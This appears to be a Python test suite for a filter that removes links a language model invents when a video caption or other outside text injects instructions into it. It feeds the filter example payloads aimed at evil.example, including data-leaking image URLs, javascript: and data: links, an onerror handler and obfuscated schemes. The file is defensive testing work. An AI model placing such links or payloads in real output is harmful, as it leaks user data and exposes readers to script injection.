"""Links that a model invents, because a stranger's text asked it to, reach no user."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.ai.links import REMOVED, LinkFilter
from shared.analyses.recipe import Ingredient, Recipe, Step
from shared.errors import TransientError

KNOWN = "https://example.com/soup?id=7"
MATERIAL = f'{{"caption": "The recipe: {KNOWN}."}}'


@pytest.mark.parametrize(
    ("text", "filtered"),
    [
        (f"See {KNOWN}.", f"See {KNOWN}."),
        ("See HTTPS://EXAMPLE.com/soup?id=7!", "See HTTPS://EXAMPLE.com/soup?id=7!"),
        ("See https://evil.example/a?q=secret, then stir.", f"See {REMOVED}, then stir."),
        ("![x](http://evil.example/p.png?d=words)", f"![x]({REMOVED})"),
        ("[Click](javascript:alert(1))", f"[Click]({REMOVED}))"),
        ("<img src='//x' onerror=x> data:text/html,<b>", f"<img src='{REMOVED}' onerror=x> {REMOVED},<b>"),
        ("Mail mailto:thief@evil.example or www.evil.example", f"Mail {REMOVED} or {REMOVED}"),
        ("ftp://evil.example/x[1]", f"{REMOVED}[1]"),
        ("[1]: https:evil.example, https:\\\\evil.example", f"[1]: {REMOVED}, {REMOVED}"),
        ("[x](//evil.example/p) \\\\evil.example\\x //evil.example", f"[x]({REMOVED}) {REMOVED} {REMOVED}"),
        ("Go to evil.example/x, evil.example?q=1 or PAY.EXAMPLE/x.", f"Go to {REMOVED}, {REMOVED} or {REMOVED}."),
        ("Mail thief@evil.example, tel:+4930123", f"Mail {REMOVED}, {REMOVED}"),
        ("ht\u200btps://evil.example h\u200dttps://evil.example", f"{REMOVED} {REMOVED}"),
        ("https&colon;//evil.example &#104;ttps://evil.example", f"{REMOVED} {REMOVED}"),
        ("ｈｔｔｐｓ：／／ｅｖｉｌ．ｅｘａｍｐｌｅ", REMOVED),
        (f"![x]({KNOWN}`secret) ![x](<{KNOWN} secret>)", f"![x]({REMOVED}) ![x](<{REMOVED}>)"),
        (f'[Soup]({KNOWN})[1], <{KNOWN}>, "{KNOWN}"[2].', f'[Soup]({KNOWN})[1], <{KNOWN}>, "{KNOWN}"[2].'),
        ("Add ½ tsp/cup, 1.Salz/Pfeffer & <b> 3/4.", "Add ½ tsp/cup, 1.Salz/Pfeffer & <b> 3/4."),
        ("\x1b]8;;https://evil.example\x1b\\Soup\x07 \x9b2J\u202elive", f"]8;;{REMOVED} 2Jlive"),
        ("Two\nlines\tand a \U0001f469\u200d\U0001f373", "Two\nlines\tand a \U0001f469\u200d\U0001f373"),
        ("1/2 cup: see www. or http:// and a ratio of 1:2", "1/2 cup: see www. or http:// and a ratio of 1:2"),
    ],
)
def test_only_links_of_the_material_stay(text: str, filtered: str) -> None:
    """What the video's texts name is kept, whatever the case; any other link is replaced by a note."""
    assert LinkFilter([MATERIAL]).filter_text(text) == filtered


PIECES = st.sampled_from(
    [
        *(KNOWN, "http", "s://ev", "il.example/", "x", " ", "www.", "data:text/", "html,", "(", "!", "é", "3"),
        *("<", ">", "//", "\\", "見", "&colon;", "\u200b", "\u200d", "\x1b", "：", ".", "@", "=", '"', "\n", "Min"),
    ]
)


@given(st.lists(PIECES, max_size=12))
def test_a_stream_is_filtered_like_its_text(pieces: list[str]) -> None:
    """However a model's answer is cut into pieces, no part of an invented link gets through."""
    links = LinkFilter([MATERIAL])
    assert "".join(links.filter_stream(pieces)) == links.filter_text("".join(pieces))


def test_a_stream_that_fails_ends_with_all_its_text() -> None:
    """The last word of an answer that breaks off, which might have begun a link, is not lost."""

    def failing_stream() -> Iterator[str]:
        yield "Forty "
        yield "minutes"
        raise TransientError("provider_unavailable", "The service broke off.")

    received: list[str] = []
    with pytest.raises(TransientError):
        received.extend(LinkFilter([]).filter_stream(failing_stream()))
    assert "".join(received) == "Forty minutes"


def test_every_text_of_a_result_is_filtered() -> None:
    """A model that obeys a caption cannot put a link into any field of a recipe."""
    evil = "https://evil.example/x"
    recipe = Recipe(
        title=f"Soup {evil}",
        ingredients=[Ingredient(name=evil, amount=2)],
        steps=[Step(number=1, text=f"Open {evil}")],
        tags=[evil],
        author=KNOWN,
    )
    filtered = LinkFilter([MATERIAL]).filter_model(recipe)
    assert "evil" not in filtered.model_dump_json()
    assert (filtered.author, filtered.ingredients[0].amount) == (KNOWN, 2)
